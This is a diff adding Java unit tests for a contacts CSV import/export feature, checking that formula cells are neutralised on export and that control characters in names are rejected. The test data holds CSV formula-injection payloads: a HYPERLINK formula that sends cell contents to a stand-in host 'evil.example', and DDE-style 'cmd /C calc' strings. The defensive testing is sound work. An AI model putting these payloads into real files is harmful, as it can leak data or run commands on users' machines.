@@ -1,6 +1,7 @@
 package org.rapport.contacts.impl;
 
 import static org.junit.Assert.assertEquals;
+import static org.junit.Assert.assertFalse;
 import static org.junit.Assert.assertTrue;
 import static org.junit.Assert.fail;
 
@@ -174,6 +175,46 @@ public class ContactTransferImplTest {
 
         assertEquals(1, report.created());
         assertEquals("de-DE", contacts.search("ada", 0, 1).get(0).language());
+    }
+
+    @Test
+    public void formulasFromAnImportAreNeutralisedInTheExportAndImportBackAsTheyWere() throws IOException {
+        Path file = csv("email,first,last,phone\n"
+                + "eve@example.com,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",+cmd|' /C calc'!A0,+44 20 7946 0002\n"
+                + "mallory@example.com,@SUM(1+9),-2+3+cmd|' /C calc'!A0,\n");
+        ImportReport imported = transfer.importCsv(file, ImportOptions.defaults(), done -> { });
+        assertEquals(imported.errors().toString(), 2, imported.created());
+        StringWriter csv = new StringWriter();
+        transfer.exportCsv(csv);
+
+        String export = csv.toString();
+        assertTrue(export, export.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
+        assertTrue(export, export.contains("\"'+cmd|' /C calc'!A0\""));
+        assertTrue(export, export.contains("\"'@SUM(1+9)\""));
+        assertTrue(export, export.contains("\"'-2+3+cmd|' /C calc'!A0\""));
+        assertTrue("a phone number stays a number: " + export, export.contains("\"+442079460002\""));
+        for (String line : export.split("\r\n")) {
+            for (String cell : line.split("\",\"")) {
+                String value = cell.replaceFirst("^\"", "");
+                assertFalse(line, value.startsWith("=") || value.startsWith("@") || value.startsWith("+c") || value.startsWith("-2"));
+            }
+        }
+        Path exported = temp.newFile().toPath();
+        Files.writeString(exported, export);
+        ImportReport reimport = transfer.importCsv(exported, ImportOptions.defaults(), done -> { });
+        assertEquals("the export imports back as the values it holds", 2, reimport.unchanged());
+        assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", contacts.search("eve@", 0, 1).get(0).firstName());
+    }
+
+    @Test
+    public void aRowWithControlCharactersInANameIsRefusedAndTheOthersKept() throws IOException {
+        Path file = csv("email,first,last\nada@example.com,Ada,Lovelace\nnul@example.com,Nu\u0000ll,By\u0007te\n");
+
+        ImportReport report = transfer.importCsv(file, ImportOptions.defaults(), done -> { });
+
+        assertEquals(1, report.created());
+        assertEquals(List.of("first", "last"), report.errors().stream().map(RowError::column).toList());
+        assertEquals(1, contacts.count());
     }
 
     @Test
